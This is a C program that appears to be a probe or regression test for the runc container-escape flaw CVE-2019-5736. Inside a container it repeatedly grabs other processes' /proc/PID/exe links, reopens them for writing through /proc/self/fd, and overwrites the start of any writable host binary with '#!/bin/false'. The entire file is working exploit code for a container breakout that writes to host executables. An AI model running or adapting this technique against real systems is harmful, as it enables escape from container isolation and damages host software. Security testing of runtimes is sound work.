/* exe_writer.c - what a container's process does to the runtime's program (CVE-2019-5736). For ever: takes hold of
 * /proc/PID/exe of every process whose program is not its own, and tries to open it for writing through /proc/self/fd,
 * again and again, also when the process has ended. Prints "seen LINK" once for each program, and "WRITABLE LINK" and
 * overwrites its beginning if it can. Says "ready" first. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD 256

static struct held { dev_t dev; ino_t ino; int fd; } held[HELD];
static unsigned n_held;

static void
hold (const char *link)
{
  struct stat st;
  char target[4096];
  int fd = open (link, O_PATH | O_CLOEXEC);
  if (fd < 0 || fstat (fd, &st) < 0)
    goto out;
  for (unsigned i = 0; i < n_held; i++)
    if (held[i].dev == st.st_dev && held[i].ino == st.st_ino)
      goto out;
  ssize_t n = readlink (link, target, sizeof target - 1);
  if (n_held == HELD || n < 0)
    goto out;
  target[n] = 0;
  printf ("seen %s\n", target);
  held[n_held++] = (struct held) { st.st_dev, st.st_ino, fd };
  return;
out:
  if (fd >= 0)
    close (fd);
}

static void
try_to_write (const struct held *h)
{
  char link[64], target[4096] = "";
  snprintf (link, sizeof link, "/proc/self/fd/%d", h->fd);
  int fd = open (link, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return;
  if (readlink (link, target, sizeof target - 1) < 0)
    perror (link);
  printf ("WRITABLE %s\n", target);
  if (write (fd, "#!/bin/false\n", 13) != 13)
    perror (target);
  close (fd);
}

int
main (void)
{
  struct stat st;
  /* The container's own program, in each of its processes, is no prey. */
  if (stat ("/bin/busybox", &st) == 0)
    held[n_held++] = (struct held) { st.st_dev, st.st_ino, -1 };
  if (stat ("/proc/self/exe", &st) == 0)
    held[n_held++] = (struct held) { st.st_dev, st.st_ino, -1 };
  unsigned own = n_held;
  DIR *all = opendir ("/proc");
  if (! all)
    return 1;
  puts ("ready");
  for (;; rewinddir (all))
    {
      for (struct dirent *e; (e = readdir (all));)
        if (atoi (e->d_name) > 0)
          {
            char link[300];
            snprintf (link, sizeof link, "/proc/%s/exe", e->d_name);
            hold (link);
          }
      for (unsigned i = own; i < n_held; i++)
        try_to_write (held + i);
      fflush (stdout);
    }
}
